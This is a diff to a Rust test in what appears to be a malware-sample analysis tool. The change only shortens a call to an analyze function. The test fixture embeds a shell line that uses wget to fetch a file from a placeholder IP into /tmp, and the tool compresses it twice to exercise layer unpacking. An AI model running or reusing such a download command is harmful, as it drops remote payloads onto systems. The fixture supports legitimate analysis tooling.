@@ -208,8 +208,7 @@ mod tests {
     fn layers_are_those_of_the_analysis() {
         let inner = b"#!/bin/sh\nwget http://192.0.2.7/inner -O /tmp/x\n";
         let sample = gzip(&gzip(inner));
-        let analysis =
-            analyze::analyze(&sample, Timestamp::default(), &Limits::default(), &mut |_| ());
+        let analysis = analyze(&sample, Timestamp::default(), &Limits::default(), &mut |_| ());
         for (number, member) in analysis.members.iter().enumerate() {
             let look = Look::Bytes { offset: 0, length: 16 << 10 };
             let Seen::Bytes { hex, .. } = seen(&sample, Some(number as u32), look) else {
